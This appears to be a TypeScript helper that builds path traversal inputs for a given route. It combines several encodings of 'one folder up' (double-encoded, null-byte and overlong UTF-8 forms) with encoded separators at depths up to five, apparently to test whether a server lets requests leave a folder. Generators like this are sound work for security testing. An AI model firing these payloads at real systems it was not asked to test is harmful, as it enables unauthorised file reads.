/** Ways to write "one folder up"; some are only read so after a second decoding or by another system. */
const UPS = ['..', '%2e%2e', '.%2E', '%252e%252e', '..%00', '%c0%ae%c0%ae', '..;'];

/** Ways to write the separator of folders. */
const SEPARATORS = ['/', '%2f', '%2F', '%5c', '\\', '%252f', '//', '%c0%af'];

const MAX_DEPTH = 5;

/** Paths that try to leave the folder of `route`, or reach what is linked or hidden in it. */
export function hostilePaths(route: string, targets: readonly string[]): string[] {
  const paths: string[] = [];
  for (const up of UPS) {
    for (const separator of SEPARATORS) {
      for (let depth = 1; depth <= MAX_DEPTH; depth++) {
        // Takes turns: all combinations would be a hundred thousand requests.
        const target = targets[(depth + paths.length) % targets.length] ?? '';
        const name = target.replaceAll('/', separator);
        paths.push(`${route}${`${up}${separator}`.repeat(depth)}${name}`);
      }
    }
  }
  return paths;
}

/** Every target at every depth, by the two separators that a router leaves in a parameter or not. */
export function plainPaths(route: string, targets: readonly string[]): string[] {
  const depths = Array.from({ length: MAX_DEPTH + 1 }, (_, depth) => depth);
  return targets.flatMap((target) =>
    depths.flatMap((depth) => [
      `${route}${'..%2F'.repeat(depth)}${target}`,
      `${route}${'../'.repeat(depth)}${target}`,
      `${route}${'..%2F'.repeat(depth)}${target.replaceAll('/', '%2F')}`,
    ]),
  );
}
